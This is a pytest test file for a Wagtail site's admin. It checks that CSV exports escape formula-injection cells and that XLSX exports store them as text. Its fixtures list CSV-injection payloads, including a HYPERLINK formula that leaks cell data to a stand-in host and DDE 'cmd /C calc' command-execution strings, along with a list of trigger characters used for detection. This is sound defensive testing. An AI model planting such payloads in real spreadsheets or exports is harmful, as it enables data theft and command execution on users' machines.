"""Spreadsheets exported from the admin cannot run what visitors or editors typed.

A CSV cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel and LibreOffice (CSV injection): such cells are prefixed with ``'``, as OWASP advises.
XLSX cells are typed, so Wagtail already stores them as text and they are left as they are.
"""

import csv
import io

import pytest
from django.test import Client
from django.urls import URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect

from tests.factories import ArticlePageFactory, ContactPageFactory, FormFieldFactory

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def contact_page(home):
    page = ContactPageFactory(parent=home, title="Ask the clinic")
    for order, label in enumerate(["Name", "Message"]):
        FormFieldFactory(page=page, label=label, field_type="singleline", sort_order=order)
    return page


def submit(client, page, **answers):
    response = client.post(
        reverse("contact:submit", args=[page.pk]), answers, content_type="application/json"
    )
    assert response.status_code == 201, response.content


def csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def xlsx_rows(response):
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


def stored(page, **answers):
    """A submission as stored; the form strips leading whitespace, older data may not be."""
    page.get_submission_class().objects.create(page=page, form_data=answers)


def test_a_submitted_formula_is_escaped_in_the_csv(client, admin_client, contact_page):
    submit(client, contact_page, name="Ada", message=FORMULAS[0])
    listing_url = reverse("wagtailforms:list_submissions", args=[contact_page.pk])

    [row] = csv_rows(admin_client.get(listing_url, {"export": "csv"}))

    assert row["Message"] == "'" + FORMULAS[0]


@pytest.mark.parametrize("formula", FORMULAS)
def test_contact_submissions_csv_escapes_formulas(admin_client, contact_page, formula):
    stored(contact_page, name="Ada", message=formula)
    listing_url = reverse("wagtailforms:list_submissions", args=[contact_page.pk])

    [row] = csv_rows(admin_client.get(listing_url, {"export": "csv"}))

    assert row["Message"] == "'" + formula
    assert row["Name"] == "Ada"


def test_contact_submissions_xlsx_keeps_answers_as_typed(client, admin_client, contact_page):
    submit(client, contact_page, name="Ada", message=FORMULAS[0])
    listing_url = reverse("wagtailforms:list_submissions", args=[contact_page.pk])

    [row] = xlsx_rows(admin_client.get(listing_url, {"export": "xlsx"}))

    assert row["Message"] == FORMULAS[0]


def test_medical_reviews_due_csv_escapes_formulas(admin_client, article_index):
    ArticlePageFactory(parent=article_index, title="=1+2 reasons to rest", slug="reasons")
    ArticlePageFactory(parent=article_index, title="Sleep and pain", slug="sleep")

    rows = csv_rows(admin_client.get(reverse("articles_reviews_due"), {"export": "csv"}))

    assert sorted(row["Article"] for row in rows) == ["'=1+2 reasons to rest", "Sleep and pain"]


def test_medical_reviews_due_xlsx_keeps_titles_as_typed(admin_client, article_index):
    ArticlePageFactory(parent=article_index, title="=1+2 reasons to rest", slug="reasons")

    [row] = xlsx_rows(admin_client.get(reverse("articles_reviews_due"), {"export": "xlsx"}))

    assert row["Article"] == "=1+2 reasons to rest"


# Every export the admin offers, found in the URL patterns

VECTORS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=cmd|" /C calc"!A0',
    "+SUM(1+1)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    " =1+1",
    "  @SUM(1)",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def admin_urls(arguments, patterns=None, prefix=""):
    """``(url, exports)`` of every URL pattern whose arguments ``arguments`` fill: ``exports``
    is true when its view class exports spreadsheets, None for a view function (which may
    accept ``?export=csv``: asked), false otherwise."""
    for entry in get_resolver().url_patterns if patterns is None else patterns:
        route = prefix + str(entry.pattern)
        if isinstance(entry, URLResolver):
            yield from admin_urls(arguments, entry.url_patterns, route)
            continue
        if not route.startswith("admin/"):
            continue
        for name, value in arguments.items():
            route = route.replace(f"<int:{name}>", str(value))
        if "<" in route or "(?P" in route or "\\" in route:
            continue  # needs arguments of its own
        view_class = getattr(entry.callback, "view_class", None)
        exports = issubclass(view_class, SpreadsheetExportMixin) if view_class else None
        yield "/" + route.replace("^", "").replace("$", ""), exports


def export_urls(user, arguments):
    """Every admin URL that answers ``?export=csv`` with a spreadsheet."""
    asking = Client(raise_request_exception=False)  # /admin/failwhale/ fails on purpose
    asking.force_login(user)
    found = []
    for url, exports in admin_urls(arguments):
        if exports:
            found.append(url)
        elif exports is None and (
            asking.get(url, {"export": "csv"}).get("Content-Type", "").startswith("text/csv")
        ):
            found.append(url)
    return sorted(set(found))


@pytest.fixture
def vector_content(home, article_index, django_user_model):
    """Something named by each vector in every report: pages (live, locked, in a workflow,
    in the site history), the user who acts (their name in every "by" column), a redirect."""
    editor = django_user_model.objects.create_superuser(
        "vectors", "vectors@example.com", "pw", first_name=VECTORS[1], last_name=""
    )
    articles = []
    for n, vector in enumerate(VECTORS):
        article = ArticlePageFactory(parent=article_index, title=vector, slug=f"vector-{n}")
        article.save_revision(user=editor, log_action=True).publish(user=editor)
        articles.append(article)
    locked = articles[0]
    locked.locked, locked.locked_by, locked.locked_at = True, editor, timezone.now()
    locked.save()
    for article in articles[1:4]:
        article.get_workflow().start(article, editor)
    Redirect.objects.create(old_path="/old", redirect_link=VECTORS[2], site=home.get_site())
    return editor


def cells_of(response, export_format):
    content = b"".join(response.streaming_content)
    if export_format == "csv":
        return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def test_every_admin_export_is_formula_safe(vector_content, contact_page):
    for n, vector in enumerate(VECTORS):
        stored(contact_page, name=f"Patient {n}", message=vector)
    client = Client()
    client.force_login(vector_content)
    shown = {}

    urls = export_urls(vector_content, {"page_id": contact_page.pk})
    runnable = {}

    for url in urls:
        for export_format in ("csv", "xlsx"):
            response = client.get(url, {"export": export_format})
            assert response.status_code == 200, (url, response.status_code)
            cells = cells_of(response, export_format)
            if export_format == "csv":
                assert response["Content-Type"].startswith("text/csv"), url
                found = [cell for cell in cells if cell.lstrip().startswith(TRIGGERS)]
                shown[url] = sum(cell[1:] in VECTORS for cell in cells)
            else:
                found = [cell.value for cell in cells if cell.data_type == "f"]
            if found:
                runnable[f"{url}?export={export_format}"] = found

    assert runnable == {}
    # The vectors did reach the reports that show what editors type.
    for url in (
        "/admin/reports/locked/",
        "/admin/reports/workflow/",
        "/admin/reports/workflow_tasks/",
        "/admin/reports/site-history/",
        "/admin/reports/aging-pages/",
        "/admin/reports/content-health/",
        "/admin/reports/reviews-due/",
        "/admin/redirects/",
        f"/admin/forms/submissions/{contact_page.pk}/",
    ):
        assert shown.get(url), (url, shown)
